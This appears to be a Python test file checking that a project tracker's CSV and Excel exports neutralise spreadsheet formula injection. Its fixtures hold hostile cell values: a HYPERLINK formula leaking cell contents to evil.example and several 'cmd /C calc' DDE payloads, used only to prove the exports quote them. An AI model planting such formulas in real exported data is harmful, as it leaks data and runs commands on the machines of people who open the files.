"""ASVS probe finding 3: formula injection through exports.

Contacts and engagements accepted cells starting with `=`, `+`, `-`, `@`; the .xlsx export wrote
them as live formulas and the CSV left them bare, as did the sprint review's issue download.
Every export now quotes them (the evidence pack's rule, one function), and importing an export
again gives back exactly what was typed.
"""

import csv
import io

import openpyxl
import pytest
from sqlalchemy import Engine
from sqlmodel import Session, select

from tracker.models import JiraIssue, Person
from tracker.services.auth.users import actor_for_email
from tracker.services.delivery.sprints import sprint_report_for
from tracker.services.people.exchange import Table, export_file, import_file
from tracker.ui.delivery import issues_csv

pytestmark = pytest.mark.db

ADMIN = "priya.raman@northmoor.gov.uk"
EVIL_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
EVIL_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
PHONE = "+44 1632 960999"
EVIL_NOTES = "-2+3+cmd|' /C calc'!A0"
RUNS_AS_FORMULA = ("=", "+", "-", "@", "\t", "\r")

CONTACTS = (
    "name,job_title,organisation,email,phone\n"
    f'"{EVIL_NAME.replace(chr(34), chr(34) * 2)}",{EVIL_TITLE},Ledgerline Systems Ltd,'
    f"evil@ledgerline.co.uk,{PHONE}\n"
).encode()
ENGAGEMENTS = (
    "deliverable,stage,email,raci,side,power,interest,notes\n"
    f"RB-01,Beta,evil@ledgerline.co.uk,C,supplier,2,2,{EVIL_NOTES}\n"
).encode()


def _cells_of_csv(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]


def _assert_inert(cells: list[str]) -> None:
    live = [cell for cell in cells if cell.startswith(RUNS_AS_FORMULA)]
    assert not live, f"cells a spreadsheet would run: {live}"


@pytest.fixture
def session(demo_engine: Engine):
    with Session(demo_engine, expire_on_commit=False) as opened:
        admin = actor_for_email(opened, ADMIN)
        import_file(opened, admin, filename="contacts.csv", data=CONTACTS)
        import_file(opened, admin, filename="engagements.csv", data=ENGAGEMENTS)
        opened.commit()
        yield opened


def test_contacts_and_engagements_csv_quote_formulas(session: Session) -> None:
    admin = actor_for_email(session, ADMIN)
    contacts = export_file(session, admin, filename="contacts.csv", table=Table.contacts)
    engagements = export_file(session, admin, filename="engagements.csv", table=Table.engagements)
    _assert_inert(_cells_of_csv(contacts) + _cells_of_csv(engagements))
    assert "'" + EVIL_NAME in _cells_of_csv(contacts)  # shown as typed, after the apostrophe
    assert "'" + EVIL_NOTES in _cells_of_csv(engagements)


def test_the_excel_export_holds_no_formula_on_either_sheet(session: Session) -> None:
    admin = actor_for_email(session, ADMIN)
    workbook = openpyxl.load_workbook(io.BytesIO(export_file(session, admin, filename="all.xlsx")))
    assert workbook.sheetnames == ["Contacts", "Engagements"]
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    _assert_inert([c.value for c in cells if isinstance(c.value, str)])


def test_importing_an_export_again_keeps_what_was_typed(session: Session) -> None:
    admin = actor_for_email(session, ADMIN)
    for name in ("all.xlsx", "contacts.csv"):
        import_file(session, admin, filename=name, data=export_file(session, admin, filename=name))
        session.commit()
    evil = session.exec(select(Person).where(Person.email == "evil@ledgerline.co.uk")).one()
    assert (evil.name, evil.job_title, evil.phone) == (EVIL_NAME, EVIL_TITLE, PHONE)


def test_the_sprint_review_download_quotes_jira_summaries(session: Session) -> None:
    issue = session.exec(select(JiraIssue).where(JiraIssue.key == "RB-12")).one()
    issue.summary = "=cmd|' /C calc'!A0"
    session.add(issue)
    session.commit()
    review = sprint_report_for(
        session, actor_for_email(session, ADMIN), board="northmoor", sprint_jira_id=70
    )
    cells = _cells_of_csv(issues_csv(review))
    _assert_inert(cells)
    assert "'=cmd|' /C calc'!A0" in cells
